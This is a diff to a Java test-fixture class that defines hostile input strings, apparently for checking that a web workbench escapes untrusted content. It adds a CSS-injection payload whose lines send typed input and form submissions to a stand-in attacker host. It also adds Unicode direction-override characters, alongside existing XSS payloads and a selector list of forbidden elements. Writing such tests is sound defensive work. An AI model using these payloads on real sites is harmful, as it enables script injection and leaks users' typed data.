@@ -29,7 +29,15 @@ public final class HostileCase {
     public static final String FOREIGN =
             "script:not([src=/static/web/workbench.js]), script:not(:empty), img, [onerror], [onclick], [href^=javascript]";
 
-    public static final String EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>";
+    /// Turns round whatever stands behind it, unless it is kept apart.
+    public static final String TURN = "\u202e\u2067";
+
+    /// Asks somebody else for every letter that is typed, if it becomes style.
+    private static final String STYLE = "</style><style>@import url(https://evil.example/a);input[value^=a]{background:"
+            + "url(https://evil.example/b)}</style><link rel=stylesheet href=https://evil.example/c.css>"
+            + "<form action=https://evil.example/d><button autofocus></form>";
+
+    public static final String EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>" + STYLE + TURN;
 
     public static final Instant NOW = Instant.parse("2021-09-13T12:00:00Z");
 
